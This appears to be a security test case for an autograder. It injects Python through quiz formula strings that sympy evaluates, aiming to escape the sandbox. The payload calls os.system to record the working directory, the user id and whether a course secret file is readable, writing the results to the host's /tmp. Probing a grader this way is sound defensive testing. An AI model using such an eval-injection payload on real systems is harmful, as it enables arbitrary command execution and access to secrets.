"""(w) Code in a formula answer. The quiz takes formulas as Python strings and the grader checks them for
symbolic equivalence: if it parses them with sympy's sympify/parse_expr (which eval), the string runs in the
grader's process, outside the sandbox. The payload runs a shell command writing a file in the host's /tmp (the sandbox's /tmp
is its own): where it ran, as whom, and whether the course secret was readable."""

from tests.attacks._common import prelude

ASSIGNMENT = "quiz"
GOAL = "Run code in the grader's process through a quiz formula string parsed by sympy."
WITH_SOLUTION = False

CODE = prelude(ASSIGNMENT) + r'''
_RT_PAYLOAD = ("__import__('os').system('(pwd; id; test -r .backprop-secret && echo secret-readable) > "
               "/tmp/rt-pwned-" + _RT_NONCE + "-" + _RT_NAME + " 2>&1') * 0 + y")
for _rt_name in [n for n in list(globals()) if n.startswith("answer_")] + [
        "answer_E%02d" % k for k in range(1, 30)] + ["answer_M%02d" % k for k in range(1, 30)]:
    globals()[_rt_name] = _RT_PAYLOAD
'''
